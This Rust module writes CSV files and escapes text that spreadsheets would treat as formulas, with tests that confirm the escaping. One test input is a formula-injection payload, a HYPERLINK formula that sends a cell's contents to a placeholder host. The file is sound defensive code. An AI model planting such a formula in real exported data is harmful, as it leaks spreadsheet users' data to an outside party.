//! Comma-separated values; every cell is written here.
//!
//! The format follows RFC 4180, with `\n` as line end. Files begin with a byte-order mark, because Chinese Excel
//! otherwise reads UTF-8 in another encoding; pandas and R skip the mark.
//!
//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula, even in quotes. Text that begins
//! like a formula, or with an apostrophe, therefore gets an apostrophe in front; removing one leading apostrophe
//! restores the text. Numbers, including negative ones, stay numbers, with the fewest digits that read back as the
//! same bits. Undefined values are empty cells.

/// The first character of a file.
const BYTE_ORDER_MARK: char = '\u{feff}';

/// A table under construction.
pub struct Csv {
    text: String,
    begun: bool,
}

impl Csv {
    /// An empty table, with the byte-order mark.
    pub fn new() -> Self {
        Self {
            text: String::from(BYTE_ORDER_MARK),
            begun: false,
        }
    }

    /// Adds a text cell, which may hold a name from a user or one of ours.
    pub fn text(&mut self, text: &str) -> &mut Self {
        self.separate();
        let guard = if begins_like_a_formula(text) { "'" } else { "" };
        if text.contains([',', ';', '\t', '"', '\n', '\r']) {
            self.text.push('"');
            self.text.push_str(guard);
            self.text.push_str(&text.replace('"', "\"\""));
            self.text.push('"');
        } else {
            self.text.push_str(guard);
            self.text.push_str(text);
        }
        self
    }

    /// Adds text cells.
    pub fn texts<'t>(&mut self, texts: impl IntoIterator<Item = &'t str>) -> &mut Self {
        for text in texts {
            self.text(text);
        }
        self
    }

    /// Adds a number; an empty cell if it is not finite.
    pub fn number(&mut self, number: f64) -> &mut Self {
        match number.is_finite() {
            true => self.plain(&number.to_string()),
            false => self.empty(),
        }
    }

    /// Adds a whole number.
    pub fn count(&mut self, count: impl Into<u64>) -> &mut Self {
        self.plain(&count.into().to_string())
    }

    /// Adds `true` or `false`.
    pub fn truth(&mut self, truth: bool) -> &mut Self {
        self.plain(if truth { "true" } else { "false" })
    }

    /// Adds an empty cell.
    pub fn empty(&mut self) -> &mut Self {
        self.plain("")
    }

    /// Ends the row.
    pub fn end(&mut self) {
        self.text.push('\n');
        self.begun = false;
    }

    /// The whole text.
    pub fn finish(self) -> String {
        self.text
    }

    /// Takes the text written since the last call, for files written in parts.
    pub fn take(&mut self) -> String {
        std::mem::take(&mut self.text)
    }

    fn plain(&mut self, cell: &str) -> &mut Self {
        self.separate();
        self.text.push_str(cell);
        self
    }

    fn separate(&mut self) {
        if self.begun {
            self.text.push(',');
        }
        self.begun = true;
    }
}

impl Default for Csv {
    fn default() -> Self {
        Self::new()
    }
}

/// Whether a text begins like a formula, or with the apostrophe that marks text. Full-width signs count too, because
/// Chinese Excel reads them as the plain ones.
fn begins_like_a_formula(text: &str) -> bool {
    const MARKS: &[char] = &[
        '=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', '\'',
    ];
    text.starts_with(MARKS)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(write: impl Fn(&mut Csv)) -> String {
        let mut csv = Csv::new();
        write(&mut csv);
        csv.end();
        csv.finish().trim_start_matches('\u{feff}').to_owned()
    }

    #[test]
    fn awkward_names_are_quoted() {
        let written = row(|csv| {
            csv.texts(["a,b", "say \"x\"", "网格", "two\nlines", ""]);
        });
        assert_eq!(written, "\"a,b\",\"say \"\"x\"\"\",网格,\"two\nlines\",\n");
    }

    #[test]
    fn a_text_that_a_spreadsheet_would_compute_is_guarded_and_a_number_is_not() {
        for text in [
            "=HYPERLINK(\"http://a.example/?\"&A1)",
            "+1+1",
            "-s",
            "@SUM(1)",
            "\t=1+1",
            "\r=1",
            "\n=1",
            "＝1+1",
            "'=1",
        ] {
            let written = row(|csv| {
                csv.text(text);
            });
            let cell = written.trim_end_matches('\n').trim_matches('"');
            assert!(cell.starts_with('\''), "{written}");
            assert_eq!(cell[1..].replace("\"\"", "\""), text);
        }
        for text in ["社区 1", "1-2", "a=b", " =1"] {
            let written = row(|csv| {
                csv.text(text);
            });
            assert_eq!(written, format!("{text}\n"));
        }
        let numbers = row(|csv| {
            csv.number(-1.5).number(f64::NAN).count(7_u32).truth(true);
        });
        assert_eq!(numbers, "-1.5,,7,true\n");
    }
}
